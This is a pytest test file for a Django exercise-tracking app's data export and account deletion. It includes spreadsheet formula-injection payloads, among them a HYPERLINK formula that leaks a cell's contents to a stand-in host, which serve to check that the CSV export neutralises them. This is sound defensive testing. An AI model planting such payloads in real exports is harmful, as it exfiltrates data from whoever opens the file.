"""Taking your data with you (/accounts/export/ as JSON, session logs as CSV) and
deleting the account (/accounts/delete/) so that no row of the user is left anywhere."""

import csv
import io
import json
from datetime import time, timedelta
from html import unescape

import pytest
from django.contrib.auth import get_user_model
from django.contrib.sessions.models import Session
from django.db import connection
from django.utils import timezone

from exercises import accounts
from exercises.models import (
    ActivityLog,
    ExerciseCheck,
    Profile,
    Routine,
    RoutineItem,
    SessionLog,
)
from exercises.views.account import ACCOUNT_BUSY
from tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db

JSON_EXPORT = "/accounts/export/?download=json"
CSV_EXPORT = "/accounts/export/sessions.csv"
DELETE = "/accounts/delete/"


def fill_account(person, make_routine, tag: str) -> dict:
    """Two routines, sessions with ticks and pains, a quick session and activities."""
    today = person.profile.today()
    morning = make_routine(
        person, f"{tag} morning", days=(0, 2, 4), slugs=("cat-cow", "plank"), at="07:00"
    )
    evening = make_routine(person, f"{tag} evening", days=(1, 3), slugs=("bridge",))
    sessions = []
    for days_back, routine in ((1, morning), (2, evening), (3, morning)):
        session = SessionLog.objects.create(
            owner=person,
            routine=routine,
            routine_name=routine.name,
            date=today - timedelta(days=days_back),
            finished_at=timezone.now(),
            pain_before=4,
            pain_after=3,
            effort=2,
            notes=f"{tag} note {days_back}",
        )
        for index, item in enumerate(routine.items.select_related("exercise")):
            ExerciseCheck.objects.create(
                session=session,
                exercise=item.exercise,
                item=item,
                status="hurt" if index == 1 else "done",
            )
        sessions.append(session)
    quick = SessionLog.objects.create(
        owner=person, routine_name="Quick session", date=today, finished_at=timezone.now()
    )
    ExerciseCheck.objects.create(session=quick, exercise=morning.items.first().exercise)
    sessions.append(quick)
    ActivityLog.objects.create(owner=person, date=today, kind="walking", minutes=30)
    ActivityLog.objects.create(owner=person, date=today, kind="yoga", minutes=20, notes=tag)
    return {"routines": [morning, evening], "sessions": sessions}


@pytest.fixture
def mine(user, make_routine):
    user.profile.reminder_time = time(8, 0)
    user.profile.weekly_goal = 3
    user.profile.save()
    return fill_account(user, make_routine, "Mine")


@pytest.fixture
def theirs(other_user, make_routine):
    return fill_account(other_user, make_routine, "Theirs")


# --- Export ----------------------------------------------------------------------------------


def test_export_page_offers_both_downloads(logged_in):
    page = logged_in.get("/accounts/export/").content.decode()
    assert 'href="/accounts/export/?download=json"' in page
    assert 'href="/accounts/export/sessions.csv"' in page


def test_export_needs_login(client):
    for url in (JSON_EXPORT, CSV_EXPORT, DELETE):
        response = client.get(url)
        assert response.status_code == 302
        assert "/accounts/login/" in response["Location"]


def test_json_export_is_an_attachment_with_a_dated_name(logged_in, user, mine):
    response = logged_in.get(JSON_EXPORT)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    today = user.profile.today().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="backcare-{today}.json"'


def test_json_export_round_trips_every_row_of_the_user_and_none_of_anyone_else(
    logged_in, user, mine, theirs
):
    data = json.loads(logged_in.get(JSON_EXPORT).content)
    assert data["user"]["username"] == user.username
    profile = data["profile"]
    assert (profile["time_zone"], profile["weekly_goal"]) == ("UTC", 3)
    assert profile["reminder_time"] == "08:00:00"

    routines = Routine.objects.filter(owner=user)
    assert sorted(r["id"] for r in data["routines"]) == sorted(r.pk for r in routines)
    exported_items = {i["id"]: i for r in data["routines"] for i in r["items"]}
    items = RoutineItem.objects.filter(routine__owner=user).select_related("exercise")
    assert sorted(exported_items) == sorted(i.pk for i in items)
    for item in items:
        exported = exported_items[item.pk]
        assert (exported["exercise"], exported["sets"], exported["reps"]) == (
            item.exercise.slug,
            item.sets,
            item.reps,
        )
        assert exported["hold_seconds"] == item.hold_seconds

    sessions = SessionLog.objects.filter(owner=user)
    exported_sessions = {s["id"]: s for s in data["sessions"]}
    assert sorted(exported_sessions) == sorted(s.pk for s in sessions)
    for session in sessions:
        exported = exported_sessions[session.pk]
        assert (exported["date"], exported["routine_id"], exported["notes"]) == (
            session.date.isoformat(),
            session.routine_id,
            session.notes,
        )
        assert (exported["pain_before"], exported["pain_after"], exported["effort"]) == (
            session.pain_before,
            session.pain_after,
            session.effort,
        )
        checks = session.checks.select_related("exercise")
        assert sorted((c["exercise"], c["status"]) for c in exported["checks"]) == sorted(
            (c.exercise.slug, c.status) for c in checks
        )
    exported_checks = sum(len(s["checks"]) for s in data["sessions"])
    assert exported_checks == ExerciseCheck.objects.filter(session__owner=user).count()

    activities = ActivityLog.objects.filter(owner=user)
    assert sorted(a["id"] for a in data["activities"]) == sorted(a.pk for a in activities)

    body = json.dumps(data)
    assert "Theirs" not in body
    assert "sam" not in {data["user"]["username"]}
    their_ids = set(Routine.objects.filter(owner__username="sam").values_list("pk", flat=True))
    assert not their_ids & {r["id"] for r in data["routines"]}
    their_sessions = set(
        SessionLog.objects.filter(owner__username="sam").values_list("pk", flat=True)
    )
    assert not their_sessions & set(exported_sessions)


def test_json_export_never_contains_the_password_hash_or_calendar_token(logged_in, user, mine):
    body = logged_in.get(JSON_EXPORT).content.decode()
    user.refresh_from_db()
    assert user.password not in body
    assert user.profile.calendar_token not in body


def read_csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_export_has_one_row_per_session(logged_in, user, mine, theirs):
    response = logged_in.get(CSV_EXPORT)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    today = user.profile.today().isoformat()
    assert (
        response["Content-Disposition"] == f'attachment; filename="backcare-sessions-{today}.csv"'
    )
    rows = read_csv(response)
    sessions = SessionLog.objects.filter(owner=user).order_by("date", "started_at")
    assert len(rows) == sessions.count()
    assert [row["date"] for row in rows] == [s.date.isoformat() for s in sessions]
    by_note = {row["notes"]: row for row in rows}
    first = SessionLog.objects.get(owner=user, notes="Mine note 1")
    row = by_note["Mine note 1"]
    assert (row["routine"], row["pain_before"], row["pain_after"], row["effort"]) == (
        first.routine_name,
        "4",
        "3",
        "2",
    )
    done = [c.exercise.name for c in first.checks.filter(status="done").select_related("exercise")]
    hurt = [c.exercise.name for c in first.checks.filter(status="hurt").select_related("exercise")]
    assert row["done"].split("; ") == done
    assert row["stopped_because_it_hurt"].split("; ") == hurt
    assert not any("Theirs" in value for row in rows for value in row.values())


@pytest.mark.parametrize(
    "note", ['=HYPERLINK("http://example.invalid","x")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]
)
def test_csv_export_neutralises_notes_that_look_like_formulas(logged_in, user, note):
    SessionLog.objects.create(owner=user, date=user.profile.today(), notes=note)
    (row,) = read_csv(logged_in.get(CSV_EXPORT))
    assert row["notes"] == "'" + note
    assert row["notes"][0] not in "=+-@\t\r"


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "  =1+1",
    " \n@cmd",
    "\u3000=1",
]


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_export_neutralises_every_cell_a_user_wrote(logged_in, user, make_routine, text):
    """Routine names, quick-session names and notes are the user's words: none of them
    reaches a spreadsheet as a formula, and each reads as written after the apostrophe."""
    routine = make_routine(user, name=text[:80])
    day = user.profile.today()
    session = SessionLog.for_routine_on(user, routine, day)
    session.notes = text
    session.save()
    SessionLog.objects.create(
        owner=user, routine_name=text[:80], date=day - timedelta(days=1), notes=text
    )
    rows = read_csv(logged_in.get(CSV_EXPORT))
    assert len(rows) == 2
    for row in rows:
        assert row["routine"] == "'" + text[:80]
        assert row["notes"] == "'" + text
        for column, cell in row.items():
            assert not runs_as_formula(cell), (column, cell)


def test_csv_export_starts_with_a_byte_order_mark_and_keeps_accents_and_emoji(
    logged_in, user, make_routine
):
    routine = make_routine(user, name="Étirements du matin 🌅")
    session = SessionLog.for_routine_on(user, routine, user.profile.today())
    session.notes = "Très bien, ça va mieux 💪 — ½ la douleur"
    session.save()
    response = logged_in.get(CSV_EXPORT)
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.content.count(b"\xef\xbb\xbf") == 1
    (row,) = read_csv(response)
    assert row["routine"] == "Étirements du matin 🌅"
    assert row["notes"] == "Très bien, ça va mieux 💪 — ½ la douleur"
    assert list(row) == [
        "date",
        "routine",
        "finished_at",
        "pain_before",
        "pain_after",
        "effort",
        "done",
        "stopped_because_it_hurt",
        "notes",
    ]


def test_csv_export_keeps_ordinary_notes_as_they_are(logged_in, user):
    SessionLog.objects.create(owner=user, date=user.profile.today(), notes="Felt good, 3/10")
    (row,) = read_csv(logged_in.get(CSV_EXPORT))
    assert row["notes"] == "Felt good, 3/10"


# --- Delete the account ----------------------------------------------------------------------


def rows_of(user_id) -> dict[str, int]:
    return {
        "user": get_user_model().objects.filter(pk=user_id).count(),
        "profile": Profile.objects.filter(user_id=user_id).count(),
        "routine": Routine.objects.filter(owner_id=user_id).count(),
        "routine item": RoutineItem.objects.filter(routine__owner_id=user_id).count(),
        "session log": SessionLog.objects.filter(owner_id=user_id).count(),
        "check": ExerciseCheck.objects.filter(session__owner_id=user_id).count(),
        "activity": ActivityLog.objects.filter(owner_id=user_id).count(),
        "login session": sum(
            1
            for session in Session.objects.all()
            if session.get_decoded().get("_auth_user_id") == str(user_id)
        ),
    }


def test_delete_page_says_what_will_be_deleted(logged_in, mine):
    page = unescape(logged_in.get(DELETE).content.decode())
    assert "2 routines and their exercises" in page
    assert "4 logged sessions" in page
    assert "2 other activities" in page
    assert "can't be undone" in page
    assert 'href="/accounts/export/"' in page
    assert 'type="password"' in page


def test_wrong_password_deletes_nothing_and_says_so(logged_in, user, mine):
    before = rows_of(user.pk)
    response = logged_in.post(DELETE, {"password": "not-my-password"})
    assert response.status_code == 200
    assert "That password isn&#x27;t right, so nothing was deleted." in response.content.decode()
    assert rows_of(user.pk) == before
    assert logged_in.get("/today/").status_code == 200  # still logged in


def test_empty_password_deletes_nothing(logged_in, user, mine):
    before = rows_of(user.pk)
    assert logged_in.post(DELETE, {}).status_code == 200
    assert rows_of(user.pk) == before


@pytest.mark.django_db(transaction=True)
def test_an_account_kept_busy_by_another_device_deletes_nothing_and_says_to_try_again(
    logged_in, user, mine, monkeypatch
):
    """Another transaction holds a row of the account (a tick from the phone, stuck): the
    deletion gives up after its attempts instead of waiting on it, keeps every row, says
    so, and works once the row is free."""
    if connection.vendor != "postgresql":
        pytest.skip("row locks are PostgreSQL's; on SQLite a transaction holds the database")
    import psycopg

    monkeypatch.setattr(accounts, "PAUSE_SECONDS", 0)
    before = rows_of(user.pk)
    item = RoutineItem.objects.filter(routine__owner=user).first()
    db = connection.settings_dict
    with psycopg.connect(
        dbname=db["NAME"], user=db["USER"], host=db["HOST"], port=db["PORT"] or 5432
    ) as phone:
        phone.execute("SELECT 1 FROM exercises_routineitem WHERE id = %s FOR UPDATE", [item.pk])
        response = logged_in.post(DELETE, {"password": PASSWORD})

    assert response.status_code == 409
    assert ACCOUNT_BUSY in unescape(response.content.decode())
    assert rows_of(user.pk) == before
    assert logged_in.get("/today/").status_code == 200  # still logged in here

    assert logged_in.post(DELETE, {"password": PASSWORD}).status_code == 302
    assert set(rows_of(user.pk).values()) == {0}


def test_right_password_deletes_the_user_and_every_row_of_theirs(
    client, logged_in, user, mine, theirs, other_user, django_user_model
):
    # Also logged in on a second device, and the other user has a session too.
    second_device = type(client)()
    second_device.force_login(user)
    theirs_device = type(client)()
    theirs_device.force_login(other_user)
    assert rows_of(user.pk)["login session"] == 2
    their_rows = rows_of(other_user.pk)

    response = logged_in.post(DELETE, {"password": PASSWORD})
    assert response.status_code == 302
    assert response["Location"] == "/"
    assert set(rows_of(user.pk).values()) == {0}
    assert rows_of(other_user.pk) == their_rows
    assert "deleted" in logged_in.get("/").content.decode()

    # Neither device is logged in any more; the other user is untouched.
    assert logged_in.get("/today/").status_code == 302
    assert second_device.get("/today/").status_code == 302
    assert theirs_device.get("/today/").status_code == 200
